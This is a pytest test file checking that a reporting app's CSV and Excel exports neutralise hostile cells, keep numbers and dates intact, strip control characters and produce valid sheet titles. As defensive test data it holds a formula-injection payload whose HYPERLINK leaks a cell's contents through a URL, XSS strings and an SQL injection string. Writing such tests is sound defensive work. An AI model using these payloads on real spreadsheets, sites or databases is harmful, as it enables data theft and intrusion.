"""The export functions with hostile cells: formula text stays text, numbers stay numbers, characters
a worksheet cannot hold are removed, missing values are empty, dates of any year are written."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from components import exports
from components.formats import DAY, stamp
from components.weekly_pack import Chart, Sheet, workbook

FORMULAS = ['=HYPERLINK("http://x?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"]
OTHER_TEXT = [
    "\u200b",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "表情 😀 生僻字 𠮷",
    "'; DROP TABLE complaints; --",
    "**x** [a](http://x)",
    "#N/A",  # an Excel error code, as text
    "第一行\n第二行",
    'a,b;"c"',
]
BIG = "长" * 40_000 + "end"


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet_of(data: bytes, index: int = 0):
    return load_workbook(io.BytesIO(data)).worksheets[index]


def column(ws, col: int = 1, first_row: int = 2) -> list:
    return [ws.cell(r, col) for r in range(first_row, ws.max_row + 1)]


# --------------------------------------------------------------------------- the cell sanitiser


@pytest.mark.parametrize("text", FORMULAS)
def test_bad_input_csv_cell_neutralises_formula_text(text: str) -> None:
    assert exports.csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", OTHER_TEXT)
def test_bad_input_csv_cell_keeps_other_text(text: str) -> None:
    assert exports.csv_cell(text) == text


def test_bad_input_control_characters_are_removed_before_the_formula_check() -> None:
    assert exports.clean_text("第一行\x0b第二行\x00\x1f") == "第一行第二行"
    assert exports.clean_text("tab\tnew\nline\rcr") == "tab\tnew\nline\rcr"  # what a cell may hold
    assert exports.csv_cell("\x0b=1+2") == "'=1+2"  # the control character hid a formula
    assert exports.csv_cell("\x00") == ""


@pytest.mark.parametrize(
    "value", [-2, -2.5, np.int64(-3), np.float64(-0.5), Decimal("-1.25"), True, 0, date(2026, 1, 1)]
)
def test_bad_input_csv_cell_keeps_numbers_and_dates(value: object) -> None:
    assert exports.csv_cell(value) == value


@pytest.mark.parametrize(  # one tuple per case: pytest hooks compare parameters, and pd.NA has no truth value
    "case",
    [
        (None, None),
        (float("nan"), None),
        (pd.NA, None),
        (pd.NaT, None),
        (float("inf"), None),
        (np.int64(7), 7),
        (np.bool_(True), True),
        (Decimal("-1.5"), Decimal("-1.5")),
        (pd.Timestamp("2026-11-23 10:00", tz="Asia/Shanghai"), datetime(2026, 11, 23, 10, 0)),
        (np.datetime64("2026-11-23T10:00:00.000000000"), datetime(2026, 11, 23, 10, 0)),
        (datetime(2026, 1, 1, 8, tzinfo=UTC), datetime(2026, 1, 1, 8)),
        (date(9999, 12, 31), date(9999, 12, 31)),
        (date(1900, 1, 1), date(1900, 1, 1)),
        (date(1899, 12, 31), "1899-12-31"),  # before Excel's first day: written as text
        (datetime(1, 1, 1), "0001-01-01 00:00:00"),
        (pd.Timedelta(hours=5), timedelta(hours=5)),
        (time(9, 30), time(9, 30)),
        (b"bytes\x00", "bytes"),
        (["a", "b"], "['a', 'b']"),
        ({"k": "=1"}, "{'k': '=1'}"),
    ],
)
def test_bad_input_excel_value_of_every_shape(case: tuple[object, object]) -> None:
    value, expected = case
    assert exports.excel_value(value) == expected


def test_bad_input_excel_value_cuts_text_to_what_a_cell_holds() -> None:
    cut = exports.excel_value(BIG)
    assert isinstance(cut, str) and len(cut) == exports.EXCEL_MAX_CHARS and cut == BIG[: len(cut)]
    emoji = exports.excel_value("😀" * 20_000)  # two UTF-16 units each, as Excel counts
    assert isinstance(emoji, str) and len(emoji) == exports.EXCEL_MAX_CHARS // 2


@pytest.mark.parametrize(
    ("name", "expected"),
    [("warning_ledger", "warning_ledger"), ("a/b:c*d?[e]\\f", "abcdef"), ("\x0b", "Sheet"), ("x" * 40, "x" * 31)],
)
def test_bad_input_sheet_titles_are_valid(name: str, expected: str) -> None:
    assert exports.sheet_title(name) == expected
    assert exports.sheet_title(name, {expected.upper()}) != expected  # taken, whatever the case


# --------------------------------------------------------------------------- whole files


def hostile_frame() -> pd.DataFrame:
    texts = FORMULAS + OTHER_TEXT + ["第一行\x0b第二行", "空\x00字符", BIG]
    n = len(texts)
    return pd.DataFrame(
        {
            "text": texts,
            "amount": [-2.5 + i for i in range(n)],
            "count": pd.array([-1, None, *range(n - 2)], dtype="Int64"),
            "mixed": ([-3, "=1", None, float("nan"), pd.NaT, Decimal("-4")] * n)[:n],
            "when": [pd.Timestamp("2026-11-23 10:00")] + [pd.NaT] * (n - 1),
            "due": ([date(9999, 12, 31), date(1900, 1, 1), None] * n)[:n],
            "=header": ["x"] * n,
        }
    )


def test_bad_input_csv_bytes_neutralises_text_and_keeps_numbers() -> None:
    frame = hostile_frame()
    rows = read_csv(exports.csv_bytes(frame))
    assert rows[0] == ["text", "amount", "count", "mixed", "when", "due", "'=header"]
    assert len(rows) == len(frame) + 1  # a cell's CR or LF never ends a record early
    body = rows[1:]
    texts = [r[0] for r in body]
    assert texts[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert texts[len(FORMULAS) : len(FORMULAS) + len(OTHER_TEXT)] == OTHER_TEXT
    assert "第一行第二行" in texts and "空字符" in texts and BIG in texts  # CSV keeps long text whole
    assert [r[1] for r in body][:2] == ["-2.5", "-1.5"]  # negative numbers are numbers
    assert [r[2] for r in body][:3] == ["-1", "", "0"]
    assert [r[3] for r in body][:6] == ["-3", "'=1", "", "", "", "-4"]
    assert body[0][4] == "2026-11-23 10:00:00" and body[1][4] == ""
    assert [r[5] for r in body][:3] == ["9999-12-31", "1900-01-01", ""]
    for cell in (c for r in rows for c in r):
        assert not ILLEGAL_CHARACTERS_RE.search(cell)


def test_bad_input_excel_bytes_writes_text_as_text_and_numbers_as_numbers() -> None:
    frame = hostile_frame()
    ws = sheet_of(exports.excel_bytes({"hostile \x0b/name": frame}))
    assert ws.title == "hostile name"
    assert [c.value for c in ws[1]] == list(frame.columns) and ws["G1"].data_type == "s"
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type not in ("f", "e"), (cell.coordinate, cell.value)
    texts = column(ws, 1)
    # shown exactly as stored, as text (XML reads a carriage return as a line feed)
    assert [c.value for c in texts[: len(FORMULAS)]] == [f.replace("\r", "\n") for f in FORMULAS]
    assert all(c.data_type == "s" for c in texts)
    assert [c.value for c in texts[len(FORMULAS) : len(FORMULAS) + len(OTHER_TEXT)]] == OTHER_TEXT
    assert texts[-3].value == "第一行第二行" and texts[-2].value == "空字符"
    assert len(texts[-1].value) == exports.EXCEL_MAX_CHARS
    amounts = column(ws, 2)
    assert amounts[0].value == -2.5 and amounts[0].data_type == "n"
    counts = column(ws, 3)
    assert (counts[0].value, counts[0].data_type, counts[1].value) == (-1, "n", None)
    mixed = [c.value for c in column(ws, 4)[:6]]
    assert mixed == [-3, "=1", None, None, None, -4]
    when = column(ws, 5)
    assert when[0].value == datetime(2026, 11, 23, 10, 0) and when[0].is_date and when[1].value is None
    due = column(ws, 6)
    assert due[0].value == datetime(9999, 12, 31) and due[0].is_date
    assert due[1].value == datetime(1900, 1, 1) and due[2].value is None


def test_bad_input_excel_bytes_of_empty_and_duplicate_sheets() -> None:
    book = load_workbook(io.BytesIO(exports.excel_bytes({"a" * 40: pd.DataFrame({"x": []}), "A" * 31: pd.DataFrame()})))
    assert book.sheetnames == ["a" * 31, "A" * 27 + " (2)"]
    assert book.worksheets[0]["A1"].value == "x" and book.worksheets[0].max_row == 1


def test_bad_input_weekly_pack_writes_cells_through_the_same_sanitiser() -> None:
    frame = pd.DataFrame({"week": ["=W1", "@W2", "-W3"], "value": [-1.0, 0.5, 0.25], "note": ["\x0b+1", None, BIG]})
    data = workbook(
        [
            Sheet(
                "=pack\x0b",
                "=title",
                frame,
                charts=(Chart("line", "=chart\x00", ("value",)),),
                percent_columns=("value",),
            )
        ]
    )
    ws = sheet_of(data)
    assert ws.title == "=pack"
    assert ws["A1"].value == "=title" and ws["A1"].data_type == "s"
    assert [c.value for c in ws["A"][2:]] == ["=W1", "@W2", "-W3"]
    assert [c.value for c in ws["B"][2:]] == [-1.0, 0.5, 0.25] and ws["B3"].number_format == "0.0%"
    assert ws["C3"].value == "+1" and ws["C4"].value is None and len(ws["C5"].value) == exports.EXCEL_MAX_CHARS
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type not in ("f", "e"), (cell.coordinate, cell.value)
    assert len(ws._charts) == 1


@pytest.mark.parametrize(
    ("moment", "shown"),
    [
        (date(9999, 12, 31), "9999-12-31"),
        (date(1900, 1, 1), "1900-01-01"),
        ("9999-12-31", "9999-12-31"),
        ("not a date", "not a date"),
        (None, ""),
        (pd.NaT, ""),
        (float("nan"), ""),
    ],
)
def test_bad_input_stored_dates_print_never_raise(moment: object, shown: str) -> None:
    assert stamp(moment, DAY) == shown


@pytest.mark.parametrize(
    ("due", "status", "overdue"),
    [
        (date(9999, 12, 31), "open", False),
        (date(1900, 1, 1), "open", True),
        (date(1900, 1, 1), "done", False),
        (datetime(2026, 11, 1, 9), "in_progress", True),
        ("2026-11-01", "open", True),
        ("garbage", "open", False),
        (None, "open", False),
        (pd.NaT, "open", False),
    ],
)
def test_bad_input_overdue_check_takes_stored_due_dates_of_any_shape(due: object, status: str, overdue: bool) -> None:
    from components.committee_view import _overdue

    assert _overdue(due, status, date(2026, 11, 23)) is overdue


def test_bad_input_excel_percent_and_money_columns_are_numbers_formatted_and_rounded_as_shown() -> None:
    frame = pd.DataFrame(
        {"share": [0.90749, None, "=1+1"], "debt": [1234567.891, -5.0, "—"], "n": [1, 2, 3]},
        dtype=object,
    )
    ws = sheet_of(exports.excel_bytes({"t": frame}, {"share": exports.PERCENT_FORMAT, "debt": exports.MONEY_FORMAT}))
    assert (ws["A2"].value, ws["A2"].number_format, ws["A2"].data_type) == (0.907, "0.0%", "n")
    assert ws["A3"].value is None
    assert (ws["A4"].value, ws["A4"].data_type) == ("=1+1", "s")  # text stays text, never a formula
    assert (ws["B2"].value, ws["B2"].number_format) == (1234567.89, "#,##0.00")
    assert (ws["B3"].value, ws["B4"].value, ws["B4"].number_format) == (-5.0, "—", "General")
    assert [c.number_format for c in ws["C"][1:]] == ["General"] * 3
